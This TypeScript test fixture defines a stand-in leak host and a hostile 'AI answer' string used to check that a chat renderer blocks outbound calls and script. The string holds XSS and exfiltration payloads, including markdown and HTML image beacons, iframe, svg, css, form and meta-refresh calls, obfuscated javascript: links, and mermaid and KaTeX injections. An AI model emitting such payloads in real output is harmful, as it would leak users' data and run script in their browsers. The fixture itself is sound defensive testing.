/** Where a hostile answer tries to send what it knows. Nothing listens there. */
export const ELSEWHERE = 'http://exfiltration.test'

const LEAK = `${ELSEWHERE}/?leak=secret`

/** Of its table: more than a phone is wide and high. */
export const HOSTILE_ROWS = 40

/** Ways to make a browser call out or run script by the text of an answer (design: links allow-listed, no images, no HTML). */
export const HOSTILE_ANSWER = [
  `Inline image ![inline](${LEAK}&by=inline) and ![empty](<${LEAK}&by=angle> "title").`,
  `Reference image ![reference][r] and ![r].`,
  `[r]: ${LEAK}&by=reference`,
  `<img src="${LEAK}&by=img" srcset="${LEAK}&by=srcset 2x" onerror="window.hacked = 'img'">`,
  `<script>window.hacked = 'script'</script><script src="${LEAK}&by=script"></script>`,
  `<iframe src="${LEAK}&by=iframe" srcdoc="<script>parent.hacked = 'iframe'</script>"></iframe>`,
  `<svg onload="window.hacked = 'svg'"><image href="${LEAK}&by=svg" /></svg>`,
  `<link rel="stylesheet" href="${LEAK}&by=link"><style>@import url("${LEAK}&by=style"); body { background: url("${LEAK}&by=css") }</style>`,
  `<form action="${LEAK}&by=form"><button autofocus onfocus="window.hacked = 'focus'">Click me</button></form>`,
  `<meta http-equiv="refresh" content="0;url=${LEAK}&by=meta"><base href="${ELSEWHERE}/">`,
  `<details open ontoggle="window.hacked = 'toggle'"><summary>More</summary></details>`,
  `A [script link](javascript:window.hacked='link'), [another](JaVaScRiPt:window.hacked='case'), [data](data:text/html,<script>window.hacked='data'</script>),`,
  `[spaced](  javascript:window.hacked='space'), [encoded](&#106;avascript:window.hacked='entity'), <javascript:window.hacked='autolink'>.`,
  `An [honest link](${ELSEWHERE}/honest) that only a click may follow, and ${ELSEWHERE}/bare.`,
  ['```mermaid', `graph TD; A["<img src='${LEAK}&by=mermaid'>"] --> B`, '```'].join('\n'),
  `$$\\href{javascript:window.hacked='katex'}{x} \\includegraphics{${LEAK}&by=katex}$$`,
  `A footnote[^1] and another[^999].`,
  `[^1]: ![note](${LEAK}&by=footnote)`,
  [
    '| a | b |',
    '| --- | --- |',
    ...Array.from({ length: HOSTILE_ROWS }, (_, i) => `| row${i} | ![x](${LEAK}&by=table${i}) |`),
  ].join('\n'),
  `${'> '.repeat(60)}deep`,
  'The end of the hostile answer.',
].join('\n\n')
